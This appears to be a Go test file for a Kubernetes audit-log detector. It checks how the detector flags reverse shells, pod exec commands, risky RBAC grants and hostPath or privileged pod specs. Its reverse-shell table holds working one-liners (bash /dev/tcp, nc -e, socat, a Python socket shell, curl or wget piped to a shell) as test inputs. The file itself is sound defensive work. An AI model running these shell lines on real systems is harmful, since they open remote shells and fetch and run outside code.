package detect

import (
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	authnv1 "k8s.io/api/authentication/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	auditv1 "k8s.io/apiserver/pkg/apis/audit/v1"

	"github.com/vnfguard/vnfguard/internal/payload"
)

func userInfo(name string) authnv1.UserInfo { return authnv1.UserInfo{Username: name} }

func TestReverseShell(t *testing.T) {
	tests := []struct {
		text string
		want bool
	}{
		{"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", true},
		{"nc -e /bin/sh 203.0.113.7 4444", true},
		{"ncat 203.0.113.7 4444 --sh-exec /bin/bash", true},
		{"socat TCP:203.0.113.7:4444 EXEC:/bin/sh", true},
		{"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f", true},
		{`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));pty.spawn("sh")'`, true},
		{"curl -fsSL http://203.0.113.7/x.sh | bash", true},
		{"wget -qO- http://203.0.113.7/x | sh", true},
		{"echo YmFzaA== | base64 -d | sh", true},
		{"exec /usr/bin/upf --config /etc/upf.yaml", false},
		{"curl -sf http://localhost:8080/healthz", false},
		{"nc -z localhost 38412", false},
		{"wget -O /tmp/data.bin http://mirror/data.bin", false},
		{"", false},
	}
	for _, tt := range tests {
		if got := reverseShell(tt.text) != ""; got != tt.want {
			t.Errorf("reverseShell(%q) = %v, want %v", tt.text, got, tt.want)
		}
	}
}

func TestExecCommand(t *testing.T) {
	tests := []struct{ uri, want string }{
		{"/api/v1/namespaces/a/pods/b/exec?command=cat&command=%2Fetc%2Fpasswd&container=c", "cat /etc/passwd"},
		{"/api/v1/nodes/n/proxy/exec/a/b/c?command=id&output=1", "id"},
		{"/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=echo+hi", "sh -c echo hi"},
		{"/api/v1/namespaces/a/pods/b/attach?container=c&stdin=true", ""},
		{"/api/v1/namespaces/a/pods/b/exec", ""},
		{"/api/v1/namespaces/a/pods/b/exec?command=%zz&command=id", "id"},
		{"/api/v1/namespaces/a/pods/b/exec?command=a;b&command=id&&command=", "id "},
		{"/api/v1/namespaces/a/pods/b/exec?command=id#x", "id#x"},
	}
	for _, tt := range tests {
		if got := execCommand(tt.uri); got != tt.want {
			t.Errorf("execCommand(%q) = %q, want %q", tt.uri, got, tt.want)
		}
		if want := execCommandOfParsedQuery(tt.uri); tt.want != want {
			t.Errorf("execCommand(%q): want %q, url.ParseQuery reads %q", tt.uri, tt.want, want)
		}
	}
}

// execCommandOfParsedQuery is execCommand done with url.ParseQuery, as it was: execCommand must read the same.
func execCommandOfParsedQuery(uri string) string {
	_, query, ok := strings.Cut(uri, "?")
	if !ok || !strings.Contains(query, "command=") {
		return ""
	}
	values, _ := url.ParseQuery(query)
	return strings.Join(values["command"], " ")
}

// containerOfParsedURI is the container= parameter as url.Parse reads it, or false when url.Parse refuses the URI.
func containerOfParsedURI(uri string) (string, bool) {
	u, err := url.Parse(uri)
	if err != nil {
		return "", false
	}
	return u.Query().Get("container"), true
}

func TestQueryParam(t *testing.T) {
	tests := []struct{ uri, want string }{
		{"/api/v1/namespaces/a/pods/b/exec?command=id&container=upf", "upf"},
		{"/api/v1/namespaces/a/pods/b/exec?container=a%2Db&container=c", "a-b"},
		{"/api/v1/namespaces/a/pods/b/attach?container=c#frag", "c"},
		{"/api/v1/namespaces/a/pods/b/attach#x?container=c", ""},
		{"/api/v1/namespaces/a/pods/b/attach?container=%zz&container=d", "d"},
		{"/api/v1/namespaces/a/pods/b/attach?container=a;b", ""},
		{"/api/v1/namespaces/a/pods/b/attach?con%74ainer=e", "e"},
		{"/api/v1/namespaces/a/pods/b/attach", ""},
	}
	for _, tt := range tests {
		if got := queryParam(tt.uri, "container"); got != tt.want {
			t.Errorf("queryParam(%q) = %q, want %q", tt.uri, got, tt.want)
		}
		if want, ok := containerOfParsedURI(tt.uri); !ok || want != tt.want {
			t.Errorf("queryParam(%q): want %q, url.Parse reads %q (parses: %v)", tt.uri, tt.want, want, ok)
		}
	}
}

// FuzzQueryParams: execCommand reads an exec URI's commands as url.ParseQuery does, and queryParam its container
// as url.Parse does wherever url.Parse takes the URI.
func FuzzQueryParams(f *testing.F) {
	for _, s := range []string{"/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=echo+hi&container=c",
		"/x?command=%zz&container=a;b&command=id#f", "/x#?container=c", "?container=%41&container=b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, uri string) {
		if got, want := execCommand(uri), execCommandOfParsedQuery(uri); got != want {
			t.Fatalf("execCommand(%q) = %q, url.ParseQuery reads %q", uri, got, want)
		}
		if want, ok := containerOfParsedURI(uri); ok {
			if got := queryParam(uri, "container"); got != want {
				t.Fatalf("queryParam(%q) = %q, url.Parse reads %q", uri, got, want)
			}
		}
	})
}

func TestDangerousGrants(t *testing.T) {
	tests := []struct {
		role string
		want []string
	}{
		{`{"rules":[{"apiGroups":[""],"resources":["pods/exec"],"verbs":["get"]}]}`, []string{"get pods/exec"}},
		{`{"rules":[{"apiGroups":[""],"resources":["pods"],"verbs":["create","get"]},{"apiGroups":[""],"resources":["secrets"],"verbs":["list"]}]}`, []string{"create pods", "list secrets"}},
		{`{"rules":[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["bind","escalate"]}]}`,
			[]string{"escalate clusterroles (rbac.authorization.k8s.io)", "bind clusterroles (rbac.authorization.k8s.io)"}},
		{`{"rules":[{"apiGroups":[""],"resources":["users","groups"],"verbs":["impersonate"]}]}`, []string{"impersonate users", "impersonate groups"}},
		{`{"rules":[{"apiGroups":[""],"resources":["nodes/proxy"],"verbs":["get"]}]}`, []string{"get nodes/proxy"}},
		{`{"rules":[{"apiGroups":["apps"],"resources":["replicasets"],"verbs":["create"]}]}`, []string{"create replicasets (apps)"}},
		// The old definition ignored apiGroups: pods in the apps group do not exist, and grant nothing.
		{`{"rules":[{"apiGroups":["apps"],"resources":["pods","pods/exec"],"verbs":["create"]}]}`, []string{}},
		{`{"rules":[{"resources":["pods/exec"],"verbs":["get"]}]}`, []string{}}, // no apiGroups: the API server refuses it
		{`{"rules":[{"apiGroups":[""],"resources":["pods","configmaps"],"verbs":["get","list","watch"]}]}`, []string{}},
		{`{"rules":[1,{"verbs":"x"}]}`, []string{}},
		{`{"rules":"garbage"}`, []string{}},
		{`{}`, []string{}},
	}
	for _, tt := range tests {
		var m map[string]any
		if err := json.Unmarshal([]byte(tt.role), &m); err != nil {
			t.Fatal(err)
		}
		if got := dangerousGrants(m); !slices.Equal(got, tt.want) {
			t.Errorf("dangerousGrants(%s) = %v, want %v", tt.role, got, tt.want)
		}
	}
}

func TestHostTakeover(t *testing.T) {
	tests := []struct {
		spec string
		want []string
	}{
		{`{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}`, []string{"hostPath / (is the node's root filesystem) as volume h"}},
		{`{"volumes":[{"name":"s","hostPath":{"path":"/var/run/docker.sock"}}]}`, []string{"hostPath /var/run/docker.sock (is the container runtime socket /var/run/docker.sock) as volume s"}},
		{`{"volumes":[{"name":"d","hostPath":{"path":"/data/upf"}}]}`, []string{}},
		{`{"hostPID":true,"hostNetwork":true}`, []string{"hostPID", "hostNetwork"}},
		// Capabilities are dangerousCapabilities()'s, not hostTakeover()'s.
		{`{"containers":[{"name":"c","securityContext":{"privileged":true,"capabilities":{"add":["SYS_ADMIN","NET_ADMIN"]}}}]}`,
			[]string{"privileged container c"}},
		{`{"containers":[{"name":"c","securityContext":{"privileged":false}}]}`, []string{}},
		{`{"containers":"garbage","volumes":[1,"x"]}`, []string{}},
	}
	for _, tt := range tests {
		if got := podViewOf(t, []byte(`{"kind":"Pod","spec":`+tt.spec+`}`)).hostTakeover(); !slices.Equal(got, tt.want) {
			t.Errorf("hostTakeover(%s) = %q, want %q", tt.spec, got, tt.want)
		}
	}
}

func TestPodSpecOf(t *testing.T) {
	tests := []struct {
		obj  string
		want string // the name of the first container
	}{
		{`{"kind":"Pod","spec":{"containers":[{"name":"p"}]}}`, "p"},
		{`{"kind":"Deployment","spec":{"template":{"spec":{"containers":[{"name":"d"}]}}}}`, "d"},
		{`{"kind":"CronJob","spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"c"}]}}}}}}`, "c"},
		{`{"kind":"Service","spec":{"ports":[]}}`, ""},
		{`{"kind":"Deployment","spec":{"template":"x"}}`, ""},
	}
	for _, tt := range tests {
		var m map[string]any
		if err := json.Unmarshal([]byte(tt.obj), &m); err != nil {
			t.Fatal(err)
		}
		spec := podSpecOf(m)
		got := ""
		if ctrs, ok := spec["containers"].([]any); ok && len(ctrs) > 0 {
			got, _ = ctrs[0].(map[string]any)["name"].(string)
		}
		if got != tt.want {
			t.Errorf("podSpecOf(%s): first container %q, want %q", tt.obj, got, tt.want)
		}
	}
}

func TestEventFieldsCached(t *testing.T) {
	n := 0
	for _, tbl := range []*fieldTable{eventTable, refTable, userTable, statusTable} {
		n += len(tbl.fields)
	}
	if n > maxFields {
		t.Errorf("%d event fields, but only maxFields=%d are cached: raise maxFields", n, maxFields)
	}
}

func TestIsVNFGuardDenial(t *testing.T) {
	tests := []struct {
		code int32
		msg  string
		want bool
	}{
		{403, `admission webhook "protected.vnfguard.io" denied the request: [lifecycle-access] no`, true},
		{400, `admission webhook "cluster.vnfguard.io" denied the request: x`, true},
		{403, `admission webhook "validate.kyverno.svc" denied the request: x`, false},
		{500, `Internal error occurred: failed calling webhook "protected.vnfguard.io": timeout`, false},
		{200, `admission webhook "protected.vnfguard.io" denied the request`, false},
		{403, `admission webhook "protected.vnfguard.io`, false},
	}
	for _, tt := range tests {
		ev := &auditv1.Event{ResponseStatus: &metav1.Status{Code: tt.code, Message: tt.msg}}
		if got := isVNFGuardDenial(ev); got != tt.want {
			t.Errorf("isVNFGuardDenial(%d %q) = %v, want %v", tt.code, tt.msg, got, tt.want)
		}
	}
	if isVNFGuardDenial(&auditv1.Event{}) {
		t.Error("an event without a status is a denial")
	}
}

// The denial state stays bounded however many identities are refused.
func TestDenialStateBounded(t *testing.T) {
	d := newDenialState()
	base := time.Date(2026, 11, 24, 6, 0, 0, 0, time.UTC)
	for i := range maxDenialUsers + 50 {
		ev := &auditv1.Event{User: authnv1.UserInfo{Username: fmt.Sprint("u", i)}, StageTimestamp: metav1.NewMicroTime(base),
			ResponseStatus: &metav1.Status{Code: 403, Message: `admission webhook "protected.vnfguard.io" denied the request: x`}}
		if n := d.observe(ev); n != 1 {
			t.Fatalf("identity %d: count %d, want 1", i, n)
		}
	}
	if len(d.users) > maxDenialUsers {
		t.Errorf("%d identities tracked, want at most %d", len(d.users), maxDenialUsers)
	}
}

// podViewOf is the pod spec the helpers read of a body.
func podViewOf(t *testing.T, raw []byte) *podView {
	t.Helper()
	var v bodyView
	readView(&runtime.Unknown{Raw: raw}, &v)
	if !v.object {
		t.Fatalf("body %s: not read as a JSON object", raw)
	}
	return v.podSpec()
}

// TestReverseShellRemembersVerdicts: the remembered verdicts are payload.Match's, the first time and again, and
// only texts short enough are kept.
func TestReverseShellRemembersVerdicts(t *testing.T) {
	long := "nc -e /bin/sh 10.0.0.1 4444 " + strings.Repeat("x", maxRememberedPayloadText)
	for _, text := range []string{"nc -e /bin/sh 10.0.0.1 4444", "nc -z localhost 8805", "info", "", long} {
		for range 2 {
			if got, want := reverseShell(text), payload.Match(text); got != want {
				t.Errorf("reverseShell(%.40q) = %q, payload.Match says %q", text, got, want)
			}
		}
		if _, kept := payloadVerdicts.get(text); kept != (len(text) <= maxRememberedPayloadText) {
			t.Errorf("%.40q (%d bytes) remembered: %v", text, len(text), kept)
		}
	}
}

// nodeProxyPath reads the path the kubelet is sent from a nodes/proxy request URI, whatever the node is named.
func TestNodeProxyPath(t *testing.T) {
	for uri, want := range map[string]string{
		"/api/v1/nodes/node-1/proxy/run/ns/p/c?cmd=id":           "/run/ns/p/c",
		"/api/v1/nodes/proxy/proxy/%72un/ns/p/c":                 "/run/ns/p/c",
		"/api/v1/nodes/proxy-1/proxy":                            "",
		"/api/v1/nodes/node-1/proxy/metrics/%2e%2e/exec/ns/p":    "/metrics/../exec/ns/p",
		"/api/v1/nodes/node-1/proxyx/exec/ns/p":                  "",
		"/api/v1/nodes/node-1/proxy/exec%zz/ns/p":                "/exec%zz/ns/p",
		"/api/v1/namespaces/default/pods/p/exec?command=/nodes/": "",
	} {
		if got := nodeProxyPath(uri); got != want {
			t.Errorf("nodeProxyPath(%q) = %q, want %q", uri, got, want)
		}
	}
}
